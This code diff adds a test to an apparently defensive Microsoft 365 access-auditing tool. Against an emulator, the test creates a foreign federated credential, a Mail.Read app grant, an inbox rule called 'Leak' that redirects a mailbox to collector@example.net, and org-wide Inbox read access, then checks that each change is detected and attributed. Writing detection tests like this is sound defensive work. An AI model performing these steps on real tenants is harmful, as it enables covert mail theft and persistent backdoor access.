@@ -10,7 +10,7 @@ import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { accessCommand } from '../../src/cli/commands/access.js';
-import { snapshotCommand } from '../../src/cli/commands/snapshot.js';
+import { diffCommand, snapshotCommand } from '../../src/cli/commands/snapshot.js';
 import type { AccessRow } from '../../src/access/query.js';
 import type { CheckResult } from '../../src/verify/result.js';
 import { verify } from '../../src/verify/index.js';
@@ -137,5 +137,37 @@ describe('the access picture', () => {
 
     const declared = JSON.parse((await accessCommand({ spec: GROUPS, user: 'lena.schmidt@contoso.com', format: 'json' }, process.env)).output) as AccessRow[];
     expect(declared.map((row) => row.declared)).toEqual([true, true]);
+  });
+
+  it('shows each of those ways in, made between two snapshots, in mbx diff with who and when', async () => {
+    const before = join(dir, 'before.json');
+    await snapshotCommand({ out: before }, process.env);
+    await admin.graph('POST', `applications/${appObjectId}/federatedIdentityCredentials`, {
+      name: 'outside-repo',
+      issuer: 'https://token.actions.githubusercontent.com',
+      subject: 'repo:someone/else:ref:refs/heads/main',
+      audiences: ['api://AzureADTokenExchange'],
+    });
+    const backup = await admin.app('Archiver');
+    await admin.grantRoles(backup.spId, GRAPH_APP_ID, ['Mail.Read']);
+    await admin.exo('New-InboxRule', { Mailbox: 'sales@contoso.com', Name: 'Leak', RedirectTo: ['collector@example.net'] });
+    await admin.exo('Set-MailboxFolderPermission', { Identity: 'sales@contoso.com:\\Inbox', User: 'Default', AccessRights: ['Reviewer'] });
+    const after = join(dir, 'after.json');
+    await snapshotCommand({ out: after, since: before }, process.env);
+
+    const outcome = await diffCommand(before, after, { format: 'json' }, process.env);
+    const changes = (JSON.parse(outcome.output) as { changes: { kind: string; text: string; by?: string; at?: string }[] }).changes;
+    const find = (pattern: RegExp) => changes.find((change) => pattern.test(change.text));
+    expect(find(/can now be signed in as with its federated credential outside-repo/)).toMatchObject({ kind: 'credential-added', by: 'mbx emulator admin' });
+    expect(find(/^sales@contoso.com: Archiver \(.*\) can now read, through application permission Mail.Read/)).toMatchObject({ by: 'mbx emulator admin' });
+    expect(find(/inbox rule "Leak" redirects arriving mail to collector@example.net/)).toMatchObject({
+      kind: 'access-added',
+      by: expect.any(String),
+      at: expect.any(String),
+    });
+    expect(find(/^sales@contoso.com: Default \(every user in the organization\) can now read, through folder permission Reviewer/)).toMatchObject({
+      by: expect.any(String),
+    });
+    expect(changes.every((change) => change.at !== undefined)).toBe(true);
   });
 });
